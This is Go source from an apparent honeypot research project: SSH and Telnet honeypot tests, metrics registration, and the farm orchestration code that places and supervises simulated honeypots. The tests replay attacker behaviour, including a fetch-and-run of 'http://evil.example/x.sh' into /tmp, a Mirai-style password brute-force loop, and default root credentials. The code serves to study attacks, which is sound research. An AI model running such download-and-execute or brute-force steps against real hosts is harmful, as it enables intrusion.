	if r.ClientVersion != "SSH-2.0-Mirai-like" {
		t.Errorf("client version = %q", r.ClientVersion)
	}
	if !r.LoggedIn() || len(r.Logins) != 1 || r.Logins[0].Password != "admin" {
		t.Errorf("logins = %+v", r.Logins)
	}
	if len(r.Commands) < 4 {
		t.Errorf("commands = %+v", r.Commands)
	}
	// ./x.sh is unknown; the rest are known.
	var sawUnknown bool
	for _, c := range r.Commands {
		if strings.HasPrefix(c.Input, "./x.sh") && !c.Known {
			sawUnknown = true
		}
	}
	if !sawUnknown {
		t.Errorf("missing unknown ./x.sh: %+v", r.Commands)
	}
	if len(r.URIs) != 1 || r.URIs[0] != "http://evil.example/x.sh" {
		t.Errorf("uris = %v", r.URIs)
	}
	if len(r.Files) != 1 || r.Files[0].Path != "/tmp/x.sh" {
		t.Errorf("files = %+v", r.Files)
	}
	if r.Termination != TermExit {
		t.Errorf("termination = %v", r.Termination)
	}
	if r.Duration() < 0 {
		t.Error("negative duration")
	}
}

func TestSSHExecSession(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(1)
	nc, err := rig.fabric.Dial("203.0.113.6", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestExec(sess, "uname -a; free -m"); err != nil {
		t.Fatal(err)
	}
	out, _ := io.ReadAll(sess)
	if !strings.Contains(string(out), "Linux") || !strings.Contains(string(out), "Mem:") {
		t.Errorf("exec output = %q", out)
	}
	cc.Close()
	recs := rig.wait(t)
	if len(recs[0].Commands) != 2 {
		t.Errorf("commands = %+v", recs[0].Commands)
	}
}

func TestSSHScannerNoCred(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(1)
	nc, err := rig.fabric.Dial("198.51.100.9", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{SkipAuth: true})
	if err != nil {
		t.Fatal(err)
	}
	cc.Close()
	recs := rig.wait(t)
	r := recs[0]
	if len(r.Logins) != 0 {
		t.Errorf("NO_CRED session has logins: %+v", r.Logins)
	}
	if r.Termination != TermClient {
		t.Errorf("termination = %v", r.Termination)
	}
}

func TestSSHFailedLoginsThreeStrikes(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(1)
	nc, err := rig.fabric.Dial("198.51.100.10", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{SkipAuth: true})
	if err != nil {
		t.Fatal(err)
	}
	_, _ = cc.TryPasswords("admin", []string{"a", "b", "c"})
	cc.Close()
	recs := rig.wait(t)
	r := recs[0]
	if len(r.Logins) != 3 || r.LoggedIn() {
		t.Errorf("logins = %+v", r.Logins)
	}
	if r.Termination != TermAuthFailure {
		t.Errorf("termination = %v, want auth-failure", r.Termination)
	}
}

func TestSSHNoCmdTimeout(t *testing.T) {
	rig := newRig(t, Config{PostAuthTimeout: 150 * time.Millisecond})
	rig.expect(1)
	nc, err := rig.fabric.Dial("198.51.100.11", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "pw"})
	if err != nil {
		t.Fatal(err)
	}
	// Log in, open a shell, then go silent: the NO_CMD pattern the paper
	// finds ends >90% of the time in the honeypot's timeout.
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestShell(sess); err != nil {
		t.Fatal(err)
	}
	recs := rig.wait(t)
	r := recs[0]
	if !r.LoggedIn() || len(r.Commands) != 0 {
		t.Errorf("logins=%v commands=%v", r.Logins, r.Commands)
	}
	if r.Termination != TermTimeout {
		t.Errorf("termination = %v, want timeout", r.Termination)
	}
	cc.Close()
}

func TestTelnetIntrusion(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(1)
	nc, err := rig.fabric.Dial("203.0.113.50", rig.telAddr)
	if err != nil {
		t.Fatal(err)
	}
	c := telnet.NewConn(nc, false)
	ok, err := telnet.ClientLogin(c, "root", "1234")
	if err != nil || !ok {
		t.Fatalf("login ok=%v err=%v", ok, err)
	}
	// Read prompt, run a command, exit.
	readUntil := func(marker string) string {
		var b strings.Builder
		for b.Len() < 65536 {
			x, err := c.ReadByte()
			if err != nil {
				break
			}
			b.WriteByte(x)
			if strings.Contains(b.String(), marker) {
				break
			}
		}
		return b.String()
	}
	readUntil("# ")
	if err := c.WriteString("uname -a\r\n"); err != nil {
		t.Fatal(err)
	}
	out := readUntil("# ")
	if !strings.Contains(out, "Linux") {
		t.Errorf("uname output = %q", out)
	}
	if err := c.WriteString("exit\r\n"); err != nil {
		t.Fatal(err)
	}
	recs := rig.wait(t)
	r := recs[0]
	if r.Protocol != Telnet {
		t.Errorf("protocol = %v", r.Protocol)
	}
	if !r.LoggedIn() || len(r.Commands) != 2 {
		t.Errorf("logins=%v commands=%+v", r.Logins, r.Commands)
	}
	if r.Termination != TermExit {
		t.Errorf("termination = %v", r.Termination)
	}
	nc.Close()
}

func TestTelnetMiraiStyleBruteForce(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(1)
	nc, err := rig.fabric.Dial("203.0.113.51", rig.telAddr)
	if err != nil {
		t.Fatal(err)
	}
	c := telnet.NewConn(nc, false)
	// Mirai's dictionary: tries pairs until lockout.
	for _, pw := range []string{"root", "root", "root"} { // all rejected (password == username)
		ok, err := telnet.ClientLogin(c, "root", pw)
		if err != nil {
			break
		}
		if ok {
			t.Fatal("root:root must be rejected")
		}
	}
	nc.Close()
	recs := rig.wait(t)
	r := recs[0]
	if r.Termination != TermAuthFailure || len(r.Logins) != 3 {
		t.Errorf("termination=%v logins=%+v", r.Termination, r.Logins)
	}
}

func TestPreAuthTimeout(t *testing.T) {
	rig := newRig(t, Config{PreAuthTimeout: 100 * time.Millisecond})
	rig.expect(1)
	nc, err := rig.fabric.Dial("198.51.100.12", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	// Connect and go silent: a port-scan-style probe.
	recs := rig.wait(t)
	if recs[0].Termination != TermTimeout {
		t.Errorf("termination = %v, want timeout", recs[0].Termination)
	}
	nc.Close()
}

func TestRecordIDsMonotonic(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(3)
	for i := 0; i < 3; i++ {
		nc, err := rig.fabric.Dial("198.51.100.13", rig.sshAddr)
		if err != nil {
			t.Fatal(err)
		}
		cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{SkipAuth: true})
		if err != nil {
			t.Fatal(err)
		}
		cc.Close()
	}
	recs := rig.wait(t)
	seen := map[uint64]bool{}
	for _, r := range recs {
		if seen[r.ID] {
			t.Errorf("duplicate session id %d", r.ID)
		}
		seen[r.ID] = true
	}
}

func TestCowrieAuthPolicy(t *testing.T) {
	cases := []struct {
		user, pass string
		want       bool
	}{
		{"root", "1234", true},
		{"root", "root", false},
		{"root", "", true},
		{"admin", "admin", false},
		{"nproc", "x", false},
		{"user", "password", false},
	}
	for _, c := range cases {
		if got := CowrieAuth(c.user, c.pass); got != c.want {
			t.Errorf("CowrieAuth(%q, %q) = %v, want %v", c.user, c.pass, got, c.want)
		}
	}
}

func TestTerminationStrings(t *testing.T) {
	for term, want := range map[Termination]string{
		TermClient: "client", TermTimeout: "timeout",
		TermAuthFailure: "auth-failure", TermExit: "exit",
	} {
		if term.String() != want {
			t.Errorf("%d.String() = %q", term, term.String())
		}
	}
	if SSH.String() != "ssh" || Telnet.String() != "telnet" {
		t.Error("protocol strings wrong")
	}
}

// TestRealTCPLoopback proves the honeypot serves real sockets, not just
// the in-memory fabric: a full SSH session over 127.0.0.1.
func TestRealTCPLoopback(t *testing.T) {
	var mu sync.Mutex
	var recs []*SessionRecord
	done := make(chan struct{}, 1)
	pot, err := New(Config{Sink: func(r *SessionRecord) {
		mu.Lock()
		recs = append(recs, r)
		mu.Unlock()
		done <- struct{}{}
	}})
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Skipf("loopback unavailable: %v", err)
	}
	defer l.Close()
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		pot.ServeSSH(c)
	}()

	nc, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "tcp-test"})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestExec(sess, "uname -a"); err != nil {
		t.Fatal(err)
	}
	out, _ := io.ReadAll(sess)
	if !strings.Contains(string(out), "Linux") {
		t.Errorf("exec over TCP = %q", out)
	}
	cc.Close()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("no record after TCP session")
	}
	mu.Lock()
	defer mu.Unlock()
	if len(recs) != 1 || !recs[0].LoggedIn() {
		t.Fatalf("records = %+v", recs)
	}
}

func TestTranscriptRecording(t *testing.T) {
	rig := newRig(t, Config{RecordTranscript: true})
	rig.expect(1)
	nc, err := rig.fabric.Dial("203.0.113.60", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "pw"})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestShell(sess); err != nil {
		t.Fatal(err)
	}
	go func() {
		_, _ = sess.Write([]byte("uname -a\nexit\n"))
	}()
	_, _ = io.ReadAll(sess)
	cc.Close()
	recs := rig.wait(t)
	tr := string(recs[0].Transcript)
	if !strings.Contains(tr, "root@svr04") || !strings.Contains(tr, "Linux") {
		t.Errorf("transcript = %q", tr)
	}
	if len(recs[0].Transcript) > TranscriptCap {
		t.Error("transcript exceeds cap")
	}
}

func TestTranscriptDisabledByDefault(t *testing.T) {
	rig := newRig(t, Config{})
	rig.expect(1)
	nc, err := rig.fabric.Dial("203.0.113.61", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "pw"})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestExec(sess, "uname"); err != nil {
		t.Fatal(err)
	}
	_, _ = io.ReadAll(sess)
	cc.Close()
	recs := rig.wait(t)
	if len(recs[0].Transcript) != 0 {
		t.Errorf("transcript recorded without opt-in: %q", recs[0].Transcript)
	}
}
