package farm

// /metrics registration for the netsim farm supervisor: session
// acceptance and loss accounting, chaos counters, and per-pot
// liveness/attribution. Everything is read through funcs at scrape
// time from the same mutex-guarded Stats the supervisor maintains, so
// the ingest path gains no new synchronization.

import (
	"strconv"

	"honeyfarm/internal/metrics"
)

// AcceptedByPot returns the number of records pot i delivered to the
// collector.
func (f *Farm) AcceptedByPot(i int) int {
	f.mu.Lock()
	defer f.mu.Unlock()
	if i < 0 || i >= len(f.acceptedByPot) {
		return 0
	}
	return f.acceptedByPot[i]
}

// RegisterFarmMetrics exports the supervisor's operational counters.
func RegisterFarmMetrics(reg *metrics.Registry, f *Farm) {
	reg.CounterFunc("honeyfarm_farm_sessions_accepted_total",
		"Session records delivered to the collector.",
		nil, func() float64 { return float64(f.Stats().Accepted) })
	reg.CounterFunc("honeyfarm_farm_records_dropped_total",
		"Session records dropped because their pot was down or the drain deadline passed.",
		nil, func() float64 { return float64(f.Stats().DroppedRecords) })
	reg.CounterFunc("honeyfarm_farm_durable_lost_total",
		"Records accepted in memory but lost by a degraded durable sink.",
		nil, func() float64 { return float64(f.Stats().DurableLost) })
	reg.CounterFunc("honeyfarm_farm_kills_total",
		"Pot takedowns (outage windows and Kill calls).",
		nil, func() float64 { return float64(f.Stats().Kills) })
	reg.CounterFunc("honeyfarm_farm_restarts_total",
		"Successful supervisor rebinds.",
		nil, func() float64 { return float64(f.Stats().Restarts) })
	reg.CounterFunc("honeyfarm_farm_conn_faults_total",
		"Dials the fault plan refused, reset, or stalled.",
		nil, func() float64 { return float64(f.Stats().ConnFaults) })
	for i := range f.deployments {
		pot := i
		labels := metrics.Labels{"pot": strconv.Itoa(pot)}
		reg.GaugeFunc("honeyfarm_farm_pot_up",
			"1 while the pot has bound listeners, else 0.",
			labels, func() float64 {
				if f.PotUp(pot) {
					return 1
				}
				return 0
			})
		reg.CounterFunc("honeyfarm_farm_pot_sessions_total",
			"Records delivered to the collector per pot.",
			labels, func() float64 { return float64(f.AcceptedByPot(pot)) })
	}
}
