// Package farm orchestrates the honeyfarm: it places N identically
// configured honeypots across the synthetic Internet's countries and
// ASes (the paper's deployment: 221 honeypots, 55 countries, 65 ASes),
// binds each one's SSH and Telnet ports on the in-memory network fabric,
// and funnels every completed session record into the central collector
// store. The cmd/honeypot tool runs the same honeypot code over real TCP
// for a single deployment.
package farm

import (
	"fmt"
	"net"
	"sync"
	"time"

	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/netsim"
	"honeyfarm/internal/shell"
	"honeyfarm/internal/store"
)

// Config configures a honeyfarm.
type Config struct {
	// Seed drives honeypot placement and host key generation order.
	Seed int64
	// NumPots, NumASes, Countries configure placement; zero values select
	// the paper's deployment (221 pots, 65 ASes, the 55-country list).
	NumPots   int
	NumASes   int
	Countries []string
	// Registry is the synthetic Internet; required.
	Registry *geo.Registry
	// Epoch is the observation period start for the collector.
	Epoch time.Time
	// Fetch resolves download URIs for all honeypots.
	Fetch shell.FetchFunc
	// PreAuthTimeout/PostAuthTimeout override the honeypots' timeouts
	// (useful to compress wire-level experiments).
	PreAuthTimeout  time.Duration
	PostAuthTimeout time.Duration
	// Now supplies record timestamps.
	Now func() time.Time
	// Latency is the fabric's connection-establishment latency.
	Latency time.Duration
}

// Farm is a running honeyfarm.
type Farm struct {
	cfg         Config
	fabric      *netsim.Fabric
	deployments []geo.Deployment
	pots        []*honeypot.Honeypot
	collector   *store.Store

	mu        sync.Mutex
	listeners []*netsim.Listener
	wg        sync.WaitGroup
	started   bool
}

// New builds the farm: placement, honeypots, collector. Call Start to
// bind listeners.
func New(cfg Config) (*Farm, error) {
	if cfg.Registry == nil {
		return nil, fmt.Errorf("farm: Config.Registry is required")
	}
	if cfg.NumPots == 0 {
		cfg.NumPots = 221
	}
	if cfg.NumASes == 0 {
		cfg.NumASes = 65
	}
	// Small farms cannot cover the full 55-country list; shrink the
	// defaults to match, as the generator does.
	if cfg.Countries == nil && cfg.NumPots < len(geo.HoneyfarmCountries) {
		cfg.Countries = geo.HoneyfarmCountries[:cfg.NumPots]
		if cfg.NumASes > cfg.NumPots {
			cfg.NumASes = cfg.NumPots
		}
	}
	if cfg.Epoch.IsZero() {
		cfg.Epoch = time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)
	}
	deployments, err := geo.Place(geo.PlacementConfig{
		Seed:       cfg.Seed,
		NumPots:    cfg.NumPots,
		NumASes:    cfg.NumASes,
		Countries:  cfg.Countries,
		Registry:   cfg.Registry,
		Residental: true,
	})
	if err != nil {
		return nil, fmt.Errorf("farm: placement: %w", err)
	}
	f := &Farm{
		cfg:         cfg,
		fabric:      netsim.NewFabric(cfg.Latency),
		deployments: deployments,
		collector:   store.New(cfg.Epoch),
	}
	for _, d := range deployments {
		pot, err := honeypot.New(honeypot.Config{
			ID:              d.ID,
			Fetch:           cfg.Fetch,
			PreAuthTimeout:  cfg.PreAuthTimeout,
			PostAuthTimeout: cfg.PostAuthTimeout,
			Now:             cfg.Now,
			Sink:            f.collector.Add,
		})
		if err != nil {
			return nil, fmt.Errorf("farm: honeypot %d: %w", d.ID, err)
		}
		f.pots = append(f.pots, pot)
	}
	return f, nil
}

// Deployments returns the farm's placement table.
func (f *Farm) Deployments() []geo.Deployment { return f.deployments }

// Collector returns the central session store.
func (f *Farm) Collector() *store.Store { return f.collector }

// Fabric returns the network fabric attackers dial through.
func (f *Farm) Fabric() *netsim.Fabric { return f.fabric }

// Honeypot returns honeypot i.
func (f *Farm) Honeypot(i int) *honeypot.Honeypot { return f.pots[i] }

// SSHAddr returns honeypot i's SSH endpoint on the fabric.
func (f *Farm) SSHAddr(i int) netsim.Addr {
	return netsim.Addr{IP: geo.Uint32ToAddr(f.deployments[i].IP).String(), Port: 22}
}

// TelnetAddr returns honeypot i's Telnet endpoint on the fabric.
func (f *Farm) TelnetAddr(i int) netsim.Addr {
	return netsim.Addr{IP: geo.Uint32ToAddr(f.deployments[i].IP).String(), Port: 23}
}

// Start binds every honeypot's SSH and Telnet ports and begins serving.
func (f *Farm) Start() error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.started {
		return fmt.Errorf("farm: already started")
	}
	for i, d := range f.deployments {
		ip := geo.Uint32ToAddr(d.IP).String()
		sshL, err := f.fabric.Listen(ip, 22)
		if err != nil {
			f.stopLocked()
			return fmt.Errorf("farm: honeypot %d ssh listen: %w", d.ID, err)
		}
		telL, err := f.fabric.Listen(ip, 23)
		if err != nil {
			f.stopLocked()
			return fmt.Errorf("farm: honeypot %d telnet listen: %w", d.ID, err)
		}
		f.listeners = append(f.listeners, sshL, telL)
		pot := f.pots[i]
		f.serve(sshL, pot.ServeSSH)
		f.serve(telL, pot.ServeTelnet)
	}
	f.started = true
	return nil
}

func (f *Farm) serve(l *netsim.Listener, handle func(net.Conn)) {
	f.wg.Add(1)
	go func() {
		defer f.wg.Done()
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			f.wg.Add(1)
			go func() {
				defer f.wg.Done()
				handle(c)
			}()
		}
	}()
}

// Stop closes all listeners and waits for in-flight sessions.
func (f *Farm) Stop() {
	f.mu.Lock()
	f.stopLocked()
	f.started = false
	f.mu.Unlock()
	f.wg.Wait()
}

func (f *Farm) stopLocked() {
	for _, l := range f.listeners {
		l.Close()
	}
	f.listeners = nil
}
