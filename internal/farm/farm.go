// Package farm orchestrates the honeyfarm: it places N identically
// configured honeypots across the synthetic Internet's countries and
// ASes (the paper's deployment: 221 honeypots, 55 countries, 65 ASes),
// binds each one's SSH and Telnet ports on the in-memory network fabric,
// and funnels every completed session record into the central collector
// store. The cmd/honeypot tool runs the same honeypot code over real TCP
// for a single deployment.
//
// The farm also owns the operational-failure machinery: an optional
// faults.Plan injects connection faults at the fabric and schedules pot
// outage windows, a supervisor restarts downed pots with capped
// exponential backoff, and Stop drains bounded — lingering connections
// are force-closed after Config.DrainTimeout so a stalled session can
// never wedge shutdown.
package farm

import (
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"honeyfarm/internal/faults"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/netsim"
	"honeyfarm/internal/shell"
	"honeyfarm/internal/store"
)

// DefaultDrainTimeout bounds Stop's graceful drain.
const DefaultDrainTimeout = 5 * time.Second

// Config configures a honeyfarm.
type Config struct {
	// Seed drives honeypot placement and host key generation order.
	Seed int64
	// NumPots, NumASes, Countries configure placement; zero values select
	// the paper's deployment (221 pots, 65 ASes, the 55-country list).
	NumPots   int
	NumASes   int
	Countries []string
	// Registry is the synthetic Internet; required.
	Registry *geo.Registry
	// Epoch is the observation period start for the collector.
	Epoch time.Time
	// Fetch resolves download URIs for all honeypots.
	Fetch shell.FetchFunc
	// FetchRetries, when positive, wraps Fetch with that many total
	// attempts of deterministic retry (shell.RetryFetch, seeded by Seed).
	FetchRetries int
	// PreAuthTimeout/PostAuthTimeout override the honeypots' timeouts
	// (useful to compress wire-level experiments).
	PreAuthTimeout  time.Duration
	PostAuthTimeout time.Duration
	// Now supplies record timestamps.
	Now func() time.Time
	// Latency is the fabric's connection-establishment latency.
	Latency time.Duration
	// Faults, when non-nil and active, injects connection faults at the
	// fabric and schedules pot outage windows.
	Faults *faults.Plan
	// DayLength maps the fault plan's outage days to wall-clock time;
	// outage windows are only scheduled when it is positive.
	DayLength time.Duration
	// DrainTimeout bounds Stop's graceful drain; zero selects
	// DefaultDrainTimeout, negative forces immediate teardown.
	DrainTimeout time.Duration
	// Durable, when non-nil, is appended every accepted record batch
	// before the collector keeps it in memory (typically a *wal.Log), so
	// a crash of the collecting process loses at most the unsynced tail
	// of the write-ahead log instead of the whole run.
	Durable store.DurableSink
	// Tee, when non-nil, observes every accepted record batch in
	// collector acceptance order (see store.SetTee) — the in-process
	// ingest hook for a live aggregation engine (internal/query). The
	// callback runs on the accepting goroutine and must not block.
	Tee func([]*honeypot.SessionRecord)
}

// Stats is a snapshot of the farm's operational counters.
type Stats struct {
	// Kills counts pot takedowns (outage windows and Kill calls).
	Kills int
	// Restarts counts successful supervisor rebinds.
	Restarts int
	// ConnFaults counts dials the fault plan refused, reset, or stalled.
	ConnFaults int
	// DroppedRecords counts session records discarded because their pot
	// was down or shutdown had passed the drain deadline.
	DroppedRecords int
	// DurableLost counts records the collector accepted in memory but
	// could not persist through the durable sink — a degraded WAL's
	// count-and-drop losses, distinct from DroppedRecords (which never
	// reached the collector at all).
	DurableLost int
	// Accepted counts session records handed to the collector (the
	// complement of DroppedRecords; durable losses are counted after
	// acceptance).
	Accepted int
}

// potState is the supervisor's view of one honeypot.
type potState struct {
	up        bool
	gen       int // bumped on every takedown; stale restart requests are dropped
	holdUntil time.Time
	listeners []*netsim.Listener
}

// Farm is a running honeyfarm.
type Farm struct {
	cfg         Config
	fabric      *netsim.Fabric
	deployments []geo.Deployment
	pots        []*honeypot.Honeypot
	collector   *store.Store

	mu      sync.Mutex
	states  []potState
	started bool
	stopped bool
	forced  bool // drain deadline passed; further records are dropped
	stats   Stats
	// droppedByPot splits Stats.DroppedRecords per honeypot, feeding the
	// availability table's sink_drops column.
	droppedByPot []int
	// acceptedByPot splits Stats.Accepted per honeypot for /metrics.
	acceptedByPot []int

	connMu sync.Mutex
	conns  map[net.Conn]int // live connection -> pot index

	stopCh    chan struct{}
	restarter *faults.Restarter
	connSeq   atomic.Uint64
	wg        sync.WaitGroup
}

// New builds the farm: placement, honeypots, collector. Call Start to
// bind listeners.
func New(cfg Config) (*Farm, error) {
	if cfg.Registry == nil {
		return nil, fmt.Errorf("farm: Config.Registry is required")
	}
	if err := cfg.Faults.Validate(); err != nil {
		return nil, fmt.Errorf("farm: %w", err)
	}
	if cfg.NumPots == 0 {
		cfg.NumPots = 221
	}
	if cfg.NumASes == 0 {
		cfg.NumASes = 65
	}
	// Small farms cannot cover the full 55-country list; shrink the
	// defaults to match, as the generator does.
	if cfg.Countries == nil && cfg.NumPots < len(geo.HoneyfarmCountries) {
		cfg.Countries = geo.HoneyfarmCountries[:cfg.NumPots]
		if cfg.NumASes > cfg.NumPots {
			cfg.NumASes = cfg.NumPots
		}
	}
	if cfg.Epoch.IsZero() {
		cfg.Epoch = time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)
	}
	if cfg.Fetch != nil && cfg.FetchRetries > 0 {
		cfg.Fetch = shell.RetryFetch(cfg.Fetch, shell.RetryFetchOptions{
			Attempts: cfg.FetchRetries,
			Seed:     cfg.Seed,
		})
	}
	deployments, err := geo.Place(geo.PlacementConfig{
		Seed:       cfg.Seed,
		NumPots:    cfg.NumPots,
		NumASes:    cfg.NumASes,
		Countries:  cfg.Countries,
		Registry:   cfg.Registry,
		Residental: true,
	})
	if err != nil {
		return nil, fmt.Errorf("farm: placement: %w", err)
	}
	f := &Farm{
		cfg:           cfg,
		fabric:        netsim.NewFabric(cfg.Latency),
		deployments:   deployments,
		collector:     store.New(cfg.Epoch),
		states:        make([]potState, len(deployments)),
		droppedByPot:  make([]int, len(deployments)),
		acceptedByPot: make([]int, len(deployments)),
		conns:         make(map[net.Conn]int),
		stopCh:        make(chan struct{}),
	}
	if cfg.Durable != nil {
		f.collector.SetDurable(cfg.Durable)
	}
	if cfg.Tee != nil {
		f.collector.SetTee(cfg.Tee)
	}
	for i, d := range deployments {
		pot, err := honeypot.New(honeypot.Config{
			ID:              d.ID,
			Fetch:           cfg.Fetch,
			PreAuthTimeout:  cfg.PreAuthTimeout,
			PostAuthTimeout: cfg.PostAuthTimeout,
			Now:             cfg.Now,
			Sink:            f.sinkFor(i),
		})
		if err != nil {
			return nil, fmt.Errorf("farm: honeypot %d: %w", d.ID, err)
		}
		f.pots = append(f.pots, pot)
	}
	return f, nil
}

// sinkFor wraps the collector for pot i: records are counted and
// dropped — never blocked on — when the pot is down or the drain
// deadline has passed.
func (f *Farm) sinkFor(i int) func(*honeypot.SessionRecord) {
	return func(rec *honeypot.SessionRecord) {
		f.mu.Lock()
		// A pot-down drop only applies while the farm is running: during
		// a farm-wide Stop all pots are down but sessions finishing
		// inside the drain window still count.
		drop := f.forced || (!f.stopped && !f.states[i].up)
		if drop {
			f.stats.DroppedRecords++
			f.droppedByPot[i]++
		} else {
			f.stats.Accepted++
			f.acceptedByPot[i]++
		}
		f.mu.Unlock()
		if !drop {
			f.collector.Add(rec)
		}
	}
}

// Deployments returns the farm's placement table.
func (f *Farm) Deployments() []geo.Deployment { return f.deployments }

// Collector returns the central session store.
func (f *Farm) Collector() *store.Store { return f.collector }

// Fabric returns the network fabric attackers dial through.
func (f *Farm) Fabric() *netsim.Fabric { return f.fabric }

// Honeypot returns honeypot i.
func (f *Farm) Honeypot(i int) *honeypot.Honeypot { return f.pots[i] }

// Stats returns a snapshot of the operational counters.
func (f *Farm) Stats() Stats {
	f.mu.Lock()
	s := f.stats
	f.mu.Unlock()
	// The collector owns durable-loss accounting; fold it in here so one
	// snapshot answers both "what never arrived" and "what arrived but
	// did not persist".
	s.DurableLost = f.collector.DurableLost()
	return s
}

// FaultReport renders the farm's loss accounting as a faults.Report
// covering days observation days: the plan's outage windows (when one
// is configured) plus the per-pot sink-drop counters, so availability
// tables over wire-farm data distinguish collector losses from
// injected faults.
func (f *Farm) FaultReport(days int) *faults.Report {
	rep := faults.NewReport(f.cfg.Faults, len(f.pots), days)
	f.mu.Lock()
	defer f.mu.Unlock()
	for pot, n := range f.droppedByPot {
		rep.AddSinkDrops(pot, n)
	}
	return rep
}

// DurableErr reports the first write-ahead persistence failure, if any.
func (f *Farm) DurableErr() error { return f.collector.DurableErr() }

// PotUp reports whether honeypot i currently has bound listeners.
func (f *Farm) PotUp(i int) bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.states[i].up
}

// SSHAddr returns honeypot i's SSH endpoint on the fabric.
func (f *Farm) SSHAddr(i int) netsim.Addr {
	return netsim.Addr{IP: geo.Uint32ToAddr(f.deployments[i].IP).String(), Port: 22}
}

// TelnetAddr returns honeypot i's Telnet endpoint on the fabric.
func (f *Farm) TelnetAddr(i int) netsim.Addr {
	return netsim.Addr{IP: geo.Uint32ToAddr(f.deployments[i].IP).String(), Port: 23}
}

// Start binds every honeypot's SSH and Telnet ports, begins serving,
// and launches the supervisor plus any planned outage windows.
func (f *Farm) Start() error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.started {
		return fmt.Errorf("farm: already started")
	}
	if f.stopped {
		return fmt.Errorf("farm: already stopped")
	}
	for i := range f.deployments {
		if err := f.bindLocked(i); err != nil {
			f.takedownAllLocked()
			return err
		}
	}
	if f.cfg.Faults.ConnActive() {
		f.installFaultHook()
	}
	f.restarter = faults.NewRestarter(faults.RestarterConfig{
		Backoff: f.cfg.Faults.Backoff,
		Hold:    f.restartHold,
		Try:     f.tryRestart,
		Stop:    f.stopCh,
		Pending: 2*len(f.deployments) + 8,
	})
	if f.cfg.Faults != nil && f.cfg.DayLength > 0 {
		f.scheduleOutages()
	}
	f.started = true
	return nil
}

// bindLocked binds pot i's SSH and Telnet listeners and starts their
// accept loops. Caller holds f.mu.
func (f *Farm) bindLocked(i int) error {
	d := f.deployments[i]
	ip := geo.Uint32ToAddr(d.IP).String()
	sshL, err := f.fabric.Listen(ip, 22)
	if err != nil {
		return fmt.Errorf("farm: honeypot %d ssh listen: %w", d.ID, err)
	}
	telL, err := f.fabric.Listen(ip, 23)
	if err != nil {
		_ = sshL.Close()
		return fmt.Errorf("farm: honeypot %d telnet listen: %w", d.ID, err)
	}
	st := &f.states[i]
	st.up = true
	st.listeners = []*netsim.Listener{sshL, telL}
	pot := f.pots[i]
	f.serve(sshL, i, pot.ServeSSH)
	f.serve(telL, i, pot.ServeTelnet)
	return nil
}

// installFaultHook points the fabric at the plan's deterministic
// connection-fault stream and counts injected faults.
func (f *Farm) installFaultHook() {
	plan := f.cfg.Faults
	f.fabric.SetFaultHook(func(src string, dst netsim.Addr) netsim.ConnFault {
		seq := f.connSeq.Add(1) - 1
		d := plan.ConnFault(seq)
		if d.Refuse || d.ResetAfter > 0 || d.Stall {
			f.mu.Lock()
			f.stats.ConnFaults++
			f.mu.Unlock()
		}
		return netsim.ConnFault{
			Refuse:     d.Refuse,
			ResetAfter: d.ResetAfter,
			Stall:      d.Stall,
			Jitter:     d.Jitter,
		}
	})
}

func (f *Farm) serve(l *netsim.Listener, pot int, handle func(net.Conn)) {
	f.wg.Add(1)
	go func() {
		defer f.wg.Done()
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			f.connMu.Lock()
			f.conns[c] = pot
			f.connMu.Unlock()
			f.wg.Add(1)
			go func() {
				defer f.wg.Done()
				handle(c)
				f.connMu.Lock()
				delete(f.conns, c)
				f.connMu.Unlock()
			}()
		}
	}()
}

// restartHold is the Restarter's hold floor: the remainder of the
// pot's planned outage window, so supervised restarts never cut an
// outage short.
func (f *Farm) restartHold(pot int) time.Duration {
	f.mu.Lock()
